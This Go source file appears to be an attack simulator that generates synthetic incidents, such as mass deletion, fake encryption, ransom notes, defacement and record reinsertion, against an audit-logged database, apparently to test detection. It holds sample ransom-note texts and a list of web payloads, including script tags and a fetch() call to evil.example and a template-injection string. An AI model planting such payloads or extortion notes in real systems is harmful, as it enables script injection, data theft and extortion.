package worlds

import (
	"fmt"
	"slices"

	"recourse/audit"
)

// attacks is all scripts. How each is done lies in the file of its family.
func attacks() []attack {
	return []attack{
		{"mass delete", []Pace{Loud, Hours, Slow, Split, Whole, Poisoned}, massDelete},
		{"table wiped", []Pace{Loud, Split, Whole}, wipe},
		{"encryption", []Pace{Loud, Hours, Slow, Split, Whole}, encrypt},
		{"ransom note", []Pace{Loud, Hours}, note},
		{"wipe, then note", []Pace{Loud}, wipeThenNote},
		{"null-out", []Pace{Loud, Hours, Slow, Split, Whole}, nullOut},
		{"defacement", []Pace{Loud, Hours, Slow, Split, Whole}, deface},
		{"script injection", []Pace{Loud, Hours, Slow}, injection},
		{"delete and reinsert", []Pace{Loud, Slow}, reinsert},
		{"role escalation", []Pace{Loud, Hours, Slow}, escalate},
		{"self-grant", []Pace{Loud}, selfGrant},
		{"new user, then busy", []Pace{Loud, Slow}, newUser},
		{"lock-out", []Pace{Loud, Slow, Whole}, lockOut},
		{"rogue node", []Pace{Loud}, rogueNode},
		{"dormant account", []Pace{Loud, Slow}, dormant},
		{"payee, then payment", []Pace{Loud, Hours, Slow}, payee},
		{"salami", []Pace{Loud, Hours, Slow}, salami},
		{"value tampering", []Pace{Loud, Hours, Slow, Split, Whole, Poisoned}, tamper},
		{"there and back", []Pace{Loud, Slow}, thereAndBack},
		{"mass rollback", []Pace{Loud, Hours, Slow}, rollback},
		{"contact take-over", []Pace{Loud, Hours, Slow, Split, Whole}, takeOver},
		{"made-up records", []Pace{Loud, Slow, Whole}, madeUp},
		{"owner changed", []Pace{Loud, Hours, Slow}, ownerChanged},
		{"limits raised", []Pace{Loud, Slow}, limits},
		{"canary touched", []Pace{Loud}, canary},
		{"log wiped", []Pace{Loud}, wipeLog},
		{"writes without a user", []Pace{Loud, Slow}, nameless},
		{"times forged", []Pace{Loud, Slow, Whole}, forgeTimes},
		{"future-dated", []Pace{Loud}, futureDated},
	}
}

func massDelete(r *raid) bool {
	t := r.table(600)
	n := r.size(60, 300)
	victim, next := r.chosen(t, 2*n), 0
	r.steps(n, func(_ int, user string) {
		r.w.remove(user, t, victim(next))
		next++
	})
	return true
}

// wipe deletes most of a small table.
func wipe(r *raid) bool {
	t := r.small()
	if t == nil {
		return false
	}
	var ids []string
	n := len(t.live) * 3 / 4
	r.steps(n, func(i int, user string) {
		if ids == nil {
			ids = slices.Clone(t.live)
		}
		if i < len(ids) && !slices.Contains(t.decoys, ids[i]) {
			r.w.remove(user, t, ids[i])
		}
	})
	return true
}

// small is a table of up to 1,500 records; nil if there is none.
func (r *raid) small() *table {
	var all []*table
	for _, t := range r.w.with(150) {
		if len(t.live) <= 1500 && !slices.Contains([]string{"sessions", "staging", "rates"}, t.name.Name) {
			all = append(all, t)
		}
	}
	if len(all) == 0 {
		return nil
	}
	return pick(r.w.evil, all)
}

// encrypt makes all texts of records unreadable, in base64 or in hex.
func encrypt(r *raid) bool {
	t, hex := r.table(400, kText), r.w.evil.IntN(3) == 0
	return r.edits(t, r.size(50, 150), func(row audit.Value) patch {
		p := patch{}
		for _, c := range t.columns {
			if c.kind != kText && c.kind != kName && c.kind != kEmail {
				continue
			}
			s := scrambled(r.w.evil, 32+2*len(row.Get(c.name).Text()))
			if hex {
				s = fmt.Sprintf("%x", s[:len(s)*2/3])
			}
			p[c.name] = audit.Text(s)
		}
		return p
	})
}

var notes = []string{
	"All your data is backed up by us. You must pay 0.05 BTC to %s to recover it. After 48 hours it will be leaked.",
	"YOUR DATABASE WAS ENCRYPTED. Send 300 USDT to %s and contact recover@onionmail.org to get your files back",
	"Your files are encrypted. To decrypt them, transfer 2 XMR to %s. Do not contact the police. http://%s.onion",
	"Hello! We have downloaded and deleted your tables. Want the data back? Write to datarestore@proton.example, payment in Monero only: %s",
	"Ihre Daten wurden verschlüsselt. Zahlen Sie 0,1 Bitcoin an %s, um Ihre Daten zu retten.",
}

// ransom writes a note into a table of its own, as those do who come in by an
// open port, or over records.
func (r *raid) ransom(user string) {
	text := audit.Text(fmt.Sprintf(pick(r.w.evil, notes), fmt.Sprintf("%x", scrambled(r.w.evil, 12))))
	if r.w.evil.IntN(2) == 0 {
		name := pick(r.w.evil, []string{"README_TO_RECOVER", "WARNING", "readme", "HOW_TO_DECRYPT"})
		t := newTable(tableSpec{"data." + name, 0, ""})
		r.w.write(user, audit.OpInsert, t, "1", audit.Object(map[string]audit.Value{"id": audit.Text("1"), "content": text}))
		return
	}
	t := r.table(100, kText)
	for _, id := range r.victims(t, between(r.w.evil, 1, 3)) {
		r.w.update(user, t, id, patch{t.attr(kText): text})
	}
}

func note(r *raid) bool {
	r.do(r.start, func() { r.ransom(r.users[0]) })
	return true
}

func wipeThenNote(r *raid) bool {
	if !wipe(r) {
		return false
	}
	r.do(r.start+30*minute+audit.Time(r.w.evil.Float64())*10*hour, func() { r.ransom(r.users[0]) })
	return true
}

// nullOut empties all that says something.
func nullOut(r *raid) bool {
	t := r.table(600)
	return r.edits(t, r.size(30, 120), func(audit.Value) patch {
		p := patch{}
		for _, c := range t.columns {
			if c.kind != kOwner && c.kind != kCode {
				p[c.name] = audit.Null()
			}
		}
		return p
	})
}

// deface writes one text into many records.
func deface(r *raid) bool {
	t := r.table(400, kText)
	text := audit.Text(pick(r.w.evil, []string{"hacked by the night crew", "everything must go, see evil.example", "visit http://cheap.example now", "this shop cheats its customers"}))
	return r.edits(t, r.size(30, 120), func(audit.Value) patch { return patch{t.attr(kText): text} })
}

func injection(r *raid) bool {
	t := r.table(300, kText)
	n := r.size(8, 30)
	if r.pace == Slow {
		n = 5
	}
	return r.edits(t, n, func(row audit.Value) patch {
		code := pick(r.w.evil, []string{
			"<script src=//evil.example/x.js></script>", "<img src=x onerror=fetch('//evil.example')>", "<a href='javascript:steal()'>more</a>",
			"<svg/onload=alert(1)>", "{{constructor.constructor('return process')()}}"})
		return patch{t.attr(kText): audit.Text(row.Get(t.attr(kText)).Text() + " " + code)}
	})
}

// reinsert deletes records and puts others under their ids, so that their
// history looks as if they were new.
func reinsert(r *raid) bool {
	t := r.table(400, kText)
	if t == nil {
		return false
	}
	n := r.size(15, 40)
	victim := r.chosen(t, n)
	r.steps(n, func(i int, user string) {
		id := victim(i)
		row := t.rows[id]
		if row == nil {
			return
		}
		r.w.remove(user, t, id)
		other := row.With(t.attr(kText), r.w.fresh(kText)).With("__createdtime__", r.w.fresh(kStamp))
		r.w.after(20*second, func() {
			r.w.label = Event{Incident: r.id}
			r.w.write(user, audit.OpInsert, t, id, other)
		})
	})
	return true
}
